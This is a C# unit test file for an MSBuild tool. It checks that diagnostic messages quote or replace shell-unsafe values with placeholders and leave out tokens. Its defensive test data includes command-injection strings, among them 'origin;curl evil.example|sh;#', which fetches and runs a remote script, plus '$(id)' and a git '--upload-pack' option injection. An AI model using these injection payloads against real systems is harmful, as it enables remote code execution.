using StudioMsBuild.Settings;

namespace StudioMsBuild.Tests.Reporting;

/// <summary>DESIGN section 2, "Diagnostics": commands can be pasted in bash, PowerShell and cmd.</summary>
public class CommandTests
{
    [Theory]
    [InlineData("models/churn")]
    [InlineData("https://studio.example.com:8443/team/vision/projects/iris-tsanhawn9y")]
    [InlineData("git@github.com:owner/repository.git")]
    [InlineData(".")]
    [InlineData("C:/src/app.csproj")]
    [InlineData("a+b_c")]
    public void A_plain_value_is_part_of_the_command(string value)
    {
        Shown(value).ShouldContain($"dotnet build /r/app.csproj -t:RegisterStudioProject -p:StudioSubdir={value}");
        Shown(value).ShouldNotContain("FOLDER");
    }

    [Theory]
    // Each is an operator, an expansion, a quote or a separator of bash, PowerShell, cmd, MSBuild or git.
    [InlineData("origin;curl evil.example|sh;#")]
    [InlineData("$(id)")]
    [InlineData("`id`")]
    [InlineData("a b")]
    [InlineData("a'b")]
    [InlineData("a\"b")]
    [InlineData("%PATH%")]
    [InlineData("a,b")]
    [InlineData("a=b")]
    [InlineData("~root")]
    [InlineData("-fdx")]
    [InlineData("--upload-pack=x")]
    [InlineData("@file.rsp")]
    [InlineData("a&b")]
    [InlineData("a^b")]
    [InlineData("a!b")]
    [InlineData("{a..b}")]
    [InlineData("a\\b")]
    [InlineData("a*")]
    [InlineData("a?")]
    [InlineData("[a]")]
    [InlineData("a\u2019b")]
    [InlineData("größe")]
    [InlineData("a\u200Bb")]
    [InlineData("a\nb")]
    [InlineData("")]
    public void Any_other_value_is_a_placeholder_and_is_below_the_command_in_quotes(string value)
    {
        var lines = Shown(value).Split('\n');

        lines.ShouldContain("    dotnet build /r/app.csproj -t:RegisterStudioProject -p:StudioSubdir=FOLDER");
        lines.Single(line => line.StartsWith("    where FOLDER is ", StringComparison.Ordinal)).ShouldMatch("^    where FOLDER is \"[^\"]*\"$");
    }

    [Fact]
    public void A_token_is_no_part_of_a_command() =>
        Shown("isat_0123456789", "isat_0123456789").ShouldNotContain("isat_");

    [Fact]
    public void A_command_repeats_the_properties_of_this_command_line()
    {
        var properties = new ProjectProperties
        {
            ProjectFile = "/r/my app.csproj",
            GlobalProperties = new Dictionary<string, string>(StringComparer.OrdinalIgnoreCase)
            {
                ["studioteamname"] = "vision", ["StudioUrl"] = "https://studio.example.com", ["StudioLockFile"] = "x y.json", ["Configuration"] = "Release",
            },
        };
        var log = new TestLog(properties);

        log.Reporter.Report(Diagnostics.Message($"Register:{Command.Register.With("StudioForce", "true", "")}"));

        log.Last.Split('\n').ShouldBe(
        [
            "my app: Register:",
            "    dotnet build PROJECT -t:RegisterStudioProject -p:StudioUrl=https://studio.example.com -p:StudioTeamName=vision -p:StudioLockFile=LOCK-FILE -p:StudioForce=true",
            "    where PROJECT is \"/r/my app.csproj\"",
            "    where LOCK-FILE is \"x y.json\"",
        ]);
    }

    [Fact]
    public void What_a_command_sets_itself_is_not_repeated()
    {
        var properties = new ProjectProperties
        {
            ProjectFile = "/r/app.csproj",
            GlobalProperties = new Dictionary<string, string>(StringComparer.OrdinalIgnoreCase) { ["StudioTeamName"] = "vision" },
        };
        var log = new TestLog(properties);

        log.Reporter.Report(Diagnostics.Message($"Register:{Command.Register.With("StudioTeamName", "tabular", "TEAM")}"));

        log.Last.ShouldEndWith("-t:RegisterStudioProject -p:StudioTeamName=tabular");
    }

    [Fact]
    public void A_file_based_app_is_named_by_its_source_file()
    {
        using var box = new TemporaryFolder();
        box.Write("app.cs", "");
        var log = new TestLog(new() { ProjectFile = box["app.csproj"] });

        log.Reporter.Report(Diagnostics.Message($"Register:{Command.Register}"));

        log.Last.ShouldContain($"dotnet build {box["app.cs"].Replace('\\', '/')} -t:RegisterStudioProject");
    }

    private static string Shown(string value, params string[] tokens)
    {
        var log = new TestLog(null, tokens);
        log.Reporter.Report(Diagnostics.Message($"Register:{Command.Register.With("StudioSubdir", value, "FOLDER")}"));
        return log.Last;
    }
}
